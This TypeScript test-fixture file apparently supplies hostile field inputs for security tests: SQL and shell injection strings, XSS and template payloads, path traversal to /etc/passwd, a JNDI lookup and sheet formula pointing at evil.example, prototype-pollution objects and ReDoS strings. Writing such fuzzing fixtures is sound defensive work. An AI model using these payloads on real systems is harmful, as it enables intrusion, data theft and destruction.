/** What an attacker writes into a field, as data, by what the field takes. */
const long = (length: number) => 'x'.repeat(length);
/** A number as it is written, where no number of ours can be written so. */
const written = (text: string) => (JSON as unknown as { rawJSON: (text: string) => unknown }).rawJSON(text);

export const hostileTexts = (given: string): Record<string, string> => ({
  empty: '',
  spaces: ' \t\u3000\u00a0 ',
  nul: `${given.slice(0, 1)}\u0000${given.slice(1)}`,
  'only nul': '\u0000',
  'half a character': `${given}\ud800`,
  'second half first': '\udc00\ud800',
  'text turned round': `\u202e${given}\u2066`,
  'nothing to see': '\u200b\u2060\ufeff\u{e0041}',
  'controls and escapes': '\u0001\u001b[2J\u0085\u2028',
  'line break and header': 'a\r\nSet-Cookie: zx_token=evil\r\n\r\n<b>',
  'end of a statement': "'; drop table account; --",
  'always true': "' or '1'='1",
  'like signs': '%_\\',
  'dollar quotes': '$1 $$ $tag$ ::uuid',
  script: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  template: '{{constructor.constructor("return process")()}}\x24{7*7}<%= 7*7 %>#{7*7}',
  'path upwards': '../../../../etc/passwd',
  'path upwards, spelt otherwise': '..%2f..%5c..\\..\\%00.png',
  'name of a prototype': '__proto__',
  'name of a constructor': 'constructor',
  'formula of a sheet': '=HYPERLINK("http://evil.example","x")',
  'words for a shell': '`id`; $(id) | id && id\n-rf /',
  'words for a log': '\x24{jndi:ldap://evil.example/a}',
  'marks without end': `e${'\u0301'.repeat(400)}`,
  'many bytes a character': '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(40),
  'digits without end': '9'.repeat(400),
  'braces without end': '{'.repeat(3_000),
  'brackets for a pattern': `${'('.repeat(50)}a+${')+'.repeat(50)}!`,
  'same sign for a pattern': `${'a'.repeat(30_000)}!`,
  'blanks for a pattern': `a${' '.repeat(30_000)}b`,
  'day there is none': '2026-02-30',
  'month there is none': '9999-99-99',
  'year there is none': '0000-01-01',
  'time of a year there is none': '0000-01-01T00:00:00Z',
  'last day there is': '9999-12-31',
  'year beyond the database': '+275760-09-13',
  'time beyond the database': '-271821-04-20T00:00:00Z',
  'time of no zone': '2026-01-01T00:00:00+99:99',
  'number beyond a number': '1e999',
  'number that is none': 'NaN',
  'number of another base': '0x10',
  'host and more': 'a.test;b=c, d.test',
});

export const textsBeyond = (longest: number | undefined): Record<string, string> =>
  longest === undefined
    ? { 'very long': long(200_000) }
    : {
        'as long as it may': long(longest),
        'one longer': long(longest + 1),
        'as wide as it may': '样'.repeat(longest),
      };

export const hostileNumbers = (most: number | undefined, least: number | undefined): Record<string, unknown> => ({
  zero: 0,
  negative: -1,
  half: 0.5,
  'beyond an integer': 2_147_483_648,
  'beyond a long': 2 ** 63,
  'last safe one': Number.MAX_SAFE_INTEGER,
  huge: 1e308,
  tiny: 5e-324,
  'without end': written('1e999'),
  'minus zero': written('-0'),
  'many digits': written('9'.repeat(400)),
  'in quotes': '1',
  ...(most === undefined ? {} : { 'as much as it may': most, 'one more': most + 1 }),
  ...(least === undefined ? {} : { 'as little as it may': least, 'one less': least - 1 }),
});

const nested = (depth: number): unknown => JSON.parse(`${'['.repeat(depth)}${']'.repeat(depth)}`);

/** Of another kind than any field wants. */
export const wrongKinds = (): Record<string, unknown> => ({
  null: null,
  'empty list': [],
  'empty object': {},
  'list in a list': [[]],
  yes: true,
  number: -1,
  'deep list': nested(450),
  'too deep a list': nested(600),
  'own prototype': JSON.parse('{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}'),
  'object that says it is text': { toString: 'x', length: 1, 0: 'x' },
});

/** Keys that nobody asked for. */
export const strangeKeys = (): Record<string, unknown> =>
  JSON.parse(
    '{"__proto__":{"isAdmin":true},"constructor":1,"toString":1,"hasOwnProperty":1,"tenantId":"019a0000-0000-7000-8000-000000000001","ownerId":"x","role":"admin","isAdmin":true,"$where":"1","":1}',
  );
